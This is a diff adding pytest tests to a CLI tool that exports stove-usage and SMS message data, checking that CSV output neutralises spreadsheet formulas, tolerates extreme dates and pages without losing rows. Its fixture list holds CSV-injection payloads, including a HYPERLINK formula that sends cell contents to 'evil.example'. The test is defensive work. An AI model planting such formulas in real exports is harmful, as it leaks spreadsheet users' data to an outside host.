@@ -11,6 +11,7 @@ from click.testing import CliRunner
 from sqlalchemy import event
 
 from core.models import Household, InboundMessage, Stove, UsageObservation
+from core.services import exports as export_service
 from core.services.exports import USAGE_COLUMNS, export_messages, export_usage
 from gateway.cli import main
 from gateway.wiring import Services
@@ -169,8 +170,8 @@ def test_messages_export_command_renders_csv_with_the_date_filter(seeded: Servic
     assert result.exit_code == 0, result.output
     records = list(csv.DictReader(io.StringIO(result.stdout)))
     assert [(r["provider_id"], r["sender"], r["needs_review"]) for r in records] == [
-        ("ev-0002", "+51******321", "false"),
-        ("ev-0003", "+51******678", "false"),
+        ("ev-0002", "'+51******321", "false"),  # a leading + would start a formula
+        ("ev-0003", "'+51******678", "false"),
     ]
     assert records[1]["reply"] == ""
     assert unmasked.exit_code == 0, unmasked.output
@@ -224,3 +225,66 @@ def test_review_queue_is_read_through_its_partial_index(seeded: Services) -> Non
         )
 
     assert "ix_inbound_review_queue" in plan
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Ver")', "@SUM(A1:A9)", "+1+1", "-2+3", "\t=1"]
+
+
+def test_messages_export_csv_neutralises_formulas_and_jsonl_keeps_the_text(
+    services: Services,
+) -> None:
+    with services.uow() as uow:
+        for number, body in enumerate(FORMULAS):
+            uow.session.add(InboundMessage(
+                provider="twilio", provider_id=f"SM{number}", sender="+51987654321", body=body,
+                received_at=at("2026-03-01T12:00"), interpretation="unreadable",
+            ))  # fmt: skip
+        uow.commit()
+    obj = {"settings": services.settings, "services": services}
+    args = ["export", "messages", "--unmasked"]
+    result = CliRunner().invoke(main, args, obj=obj)
+    jsonl = CliRunner().invoke(main, [*args, "--format", "jsonl"], obj=obj)
+    records = list(csv.DictReader(io.StringIO(result.stdout)))
+    assert [r["body"] for r in records] == ["'" + body for body in FORMULAS]
+    assert {r["sender"] for r in records} == {"'+51987654321"}
+    assert [json.loads(line)["body"] for line in jsonl.stdout.splitlines()] == FORMULAS
+
+
+@pytest.mark.parametrize(
+    "moment", [datetime(1, 1, 1, tzinfo=UTC), datetime(9999, 12, 31, 23, 59, 59, tzinfo=UTC)],
+    ids=["year-1", "year-9999"],
+)
+def test_messages_export_never_fails_on_a_time_that_was_stored(
+    services: Services, moment: datetime
+) -> None:
+    """Rows stored before receive times were range-checked still export, every run."""
+    with services.uow() as uow:
+        uow.session.add(InboundMessage(provider="android", provider_id="ev-old", sender="+519",
+                                       body="uso 5", received_at=moment))  # fmt: skip
+        uow.commit()
+    obj = {"settings": services.settings, "services": services}
+    for fmt in ("csv", "jsonl"):
+        result = CliRunner().invoke(main, ["export", "messages", "--format", fmt], obj=obj)
+        assert result.exit_code == 0, result.output
+        assert moment.isoformat(timespec="seconds").replace("+00:00", "Z") in result.stdout
+
+
+def test_exports_read_page_after_page_without_losing_or_repeating_a_row(
+    seeded: Services, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Each page is its own short transaction; the next starts after the last row read."""
+    whole_usage = list(export_usage(seeded.uow(), include_superseded=True))
+    whole_messages = list(export_messages(seeded.uow(), tz=LIMA))
+    with seeded.uow() as uow:  # a message at the same instant as another: ties go by id
+        uow.session.add(InboundMessage(provider="twilio", provider_id="SM0005", sender="+519",
+                                       body="5", received_at=at("2026-03-01T05:30")))  # fmt: skip
+        uow.commit()
+    monkeypatch.setattr(export_service, "CHUNK_ROWS", 1)
+    monkeypatch.setattr(export_service, "STOVES_PER_PAGE", 1)
+
+    paged_usage = list(export_usage(seeded.uow(), include_superseded=True))
+    paged_ids = [row["provider_id"] for row in export_messages(seeded.uow(), tz=LIMA)]
+
+    assert paged_usage == whole_usage
+    assert paged_ids == ["SM0001", "ev-0002", "SM0005", "ev-0003", "ev-0004"]
+    assert len(whole_messages) == 4
